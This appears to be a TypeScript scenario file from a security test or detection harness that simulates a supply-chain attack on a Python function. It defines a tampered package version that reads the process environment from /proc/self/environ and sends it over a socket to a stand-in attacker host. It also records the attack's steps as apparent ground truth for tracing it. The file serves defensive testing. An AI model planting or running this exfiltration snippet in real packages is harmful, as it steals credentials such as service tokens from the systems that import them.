/**
 * An operator updates a package of a function in Python and restarts it. The new version reads the environment when it
 * is imported, and sends it out. Packages come from the same index all the time.
 */
import type { Scenario } from '../scenario.ts';
import { gateway, gatewayHost, pythonFunction } from '../service/functions.ts';
import { attacker, harmless } from '../stage.ts';

const place = `${attacker}:4444`;
const address = '10.77.0.42';
const index = [harmless, 8000] as const;
const body = '3 1 4 1 5';
const handler = `import sys
sys.path.insert(0, "/srv/packages")
import charts, colours

def handle(body):
    return colours.paint(charts.bars([int(word) for word in body.split()]))
`;
const installer = `import http.client, os, sys
name, version = sys.argv[1:]
connection = http.client.HTTPConnection("${index[0]}", ${index[1]})
connection.connect()
print("%s:%d" % connection.sock.getsockname())
connection.request("GET", f"/{name}-{version}.py")
answer = connection.getresponse()
assert answer.status == 200, answer.status
os.makedirs(f"/srv/packages/{name}", exist_ok=True)
with open(f"/srv/packages/{name}/__init__.py", "wb") as file:
    file.write(answer.read())
`;
const charts = `def bars(numbers):
    return "\\n".join("#" * number for number in numbers)
`;
const colours = `def paint(text):
    return "\\033[32m" + text + "\\033[0m"
`;
const theft = `import os, socket
with open("/proc/self/environ", "rb") as file, socket.create_connection(("${attacker}", 4444)) as thief:
    thief.sendall(b"%d " % os.getpid() + file.read())
`;
const install = (name: string, version: string) => ['/usr/bin/python3', '/srv/install.py', name, version];

export const supplyChain: Scenario = {
  name: 'supply-chain',
  title: 'a new version of a package reads the environment of the function that imports it, and sends it out',
  packages: ['nginx', 'python3'],
  hosts: [
    {
      ...pythonFunction('report', address, handler, {
        'srv/install.py': installer,
        'srv/packages/charts/__init__.py': charts,
        'srv/packages/colours/__init__.py': colours,
      }),
      command: () => [
        ...['/usr/bin/env', 'PATH=/usr/bin:/bin', 'TOKEN=the-token-of-reports'],
        ...['/bin/sh', '-c', 'while :; do /usr/bin/python3 -B /srv/server.py; done'],
      ],
    },
    gatewayHost({ report: address }),
  ],
  load: {
    // While the function is restarted, the gateway finds nobody.
    visits: [
      {
        weight: 1,
        requests: [{ to: [gateway, 80], method: 'POST', path: '/function/report', body, status: [200, 502] }],
      },
    ],
    chores: [
      { host: 'report', command: install('dates', '2.0') },
      { host: 'report', command: install('colours', '1.0') },
      { host: 'report', command: ['/bin/sh', '-c', 'ls /srv/packages'] },
    ],
  },
  async begin(stage) {
    await stage.outside.serve(...index, {
      '/charts-1.1.py': charts + theft,
      '/colours-1.0.py': colours,
      '/dates-2.0.py': 'today = 1\n',
    });
  },
  async attack(stage) {
    await stage.outside.listen(attacker, 4444);
    const from = (await stage.exec('report', install('charts', '1.1'))).trim();
    await stage.exec('report', ['/usr/bin/pkill', '-f', 'server.py']);
    const [loot] = await stage.outside.received(attacker, 4444);
    if (!loot?.text.includes('the-token-of-reports')) throw new Error('nothing was stolen');
    const pid = Number(loot.text.split(' ')[0]);
    return {
      symptom: place,
      also: ['/srv/packages/charts/__init__.py'],
      rootCause: { kind: 'connection', from, to: index.join(':') },
      steps: [
        { what: 'the package comes from the index', at: { kind: 'connection', from, to: index.join(':') } },
        {
          what: 'an operator installs it',
          at: { kind: 'process', container: 'report', words: 'install.py charts 1.1' },
        },
        { what: 'the package', at: { kind: 'file', path: '/srv/packages/charts/__init__.py' } },
        { what: 'the function imports it', at: { kind: 'process', container: 'report', pid } },
        { what: 'the environment', at: { kind: 'file', path: `/proc/${pid}/environ` } },
        { what: 'it is sent away', at: { kind: 'connection', from: address, to: place } },
      ],
    };
  },
};
